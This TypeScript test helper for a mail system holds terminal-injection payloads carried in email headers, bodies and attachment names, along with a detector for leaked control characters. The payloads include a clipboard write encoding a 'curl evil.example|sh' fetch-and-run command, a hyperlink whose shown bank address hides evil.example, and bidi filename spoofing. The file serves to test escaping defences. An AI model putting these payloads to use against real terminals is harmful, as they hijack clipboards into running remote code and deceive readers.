// Strings a stranger's mail can carry to attack a terminal, and a check that
// finds any of their control characters in captured output.
import nodemailer from "nodemailer";
import { sendOne } from "../helpers/smtp-wire.js";

const ESC = "\u001b";
const BEL = "\u0007";
const ST = `${ESC}\\`;

/** Each one, printed raw, does something to a terminal (or to the reader). */
export const HOSTILE = {
  clearScreen: `${ESC}[2J${ESC}[H`,
  title: `${ESC}]0;pwned${BEL}`,
  clipboard: `${ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=${BEL}`,
  link: `${ESC}]8;;http://evil.example/${ST}https://bank.example/${ESC}]8;;${ST}`,
  c1Csi: "\u009b2J",
  c1Osc: "\u009d0;c1-title\u009c",
  bidi: "invoice\u202eexe.pdf\u2066x\u2069",
  nul: "a\u0000b",
  del: "a\u007fb",
  backspace: "real\b\b\b\bfake",
  carriageReturn: "safe\roverwritten",
};

/** All of them in one string, for fields that take any text. */
export const HOSTILE_LINE = Object.values(HOSTILE).join(" | ");

/** What printable() shows for some of them: proof the text was printed, not dropped. */
export const VISIBLE = [
  "\\x1b[2J",
  "\\x1b]52;c;",
  "\\x1b]8;;http://evil.example/",
  "\\x9b2J",
  "\\u202e",
  "\\x00",
];

/**
 * Control characters in `text` (C0 except newline and tab, DEL, C1, bidi
 * controls), as escapes, so a failing assertion shows what leaked.
 */
export function controlCharacters(text: string): string[] {
  // eslint-disable-next-line no-control-regex -- finding control characters is the point
  const found = text.match(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/g) ?? [];
  return found.map((c) => `U+${c.charCodeAt(0).toString(16).padStart(4, "0")}`);
}

/** A hostile message as a normal app would send it (nodemailer encodes the headers as encoded-words). */
export async function sendHostileEncoded(smtpPort: number, to: string): Promise<string> {
  const t = nodemailer.createTransport({ host: "127.0.0.1", port: smtpPort, ignoreTLS: true });
  try {
    const info = await t.sendMail({
      from: { name: `Support ${HOSTILE.title}${HOSTILE.bidi}`, address: "support@evil.test" },
      to: { name: `QA ${HOSTILE.clearScreen}`, address: to },
      cc: { name: HOSTILE.c1Osc, address: "cc@evil.test" },
      subject: `Reset ${HOSTILE_LINE}`,
      text: `Hello\n${HOSTILE_LINE}\n\tindented ${HOSTILE.link}\nbye\n`,
      attachments: [{ filename: `report${HOSTILE.clipboard}${HOSTILE.bidi}.txt`, content: "x" }],
    });
    return /queued as (\S+)/.exec(info.response)![1]!;
  } finally {
    t.close();
  }
}

/** A hostile message with the bytes raw (8-bit UTF-8) in the headers and body, C1 controls included. */
export async function sendHostileRaw(smtpPort: number, to: string): Promise<string> {
  const head =
    `From: "Admin ${HOSTILE.clearScreen}" <admin@evil.test>\r\n` +
    `To: ${to}\r\n` +
    `Subject: raw ${HOSTILE.title} ${HOSTILE.link} ${HOSTILE.bidi}\r\n` +
    "Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n";
  const body = `raw8bit \u009b2J \u009d0;t\u009c ${HOSTILE.clipboard} ${HOSTILE.nul}\r\n`;
  const reply = await sendOne({
    port: smtpPort,
    encoding: "latin1",
    to: [to],
    body: Buffer.from(head + body, "utf8"),
  });
  const id = /queued as (\S+)/.exec(reply.text)?.[1];
  if (!id) throw new Error(`the sink did not take the raw message: ${reply.code} ${reply.text}`);
  return id;
}
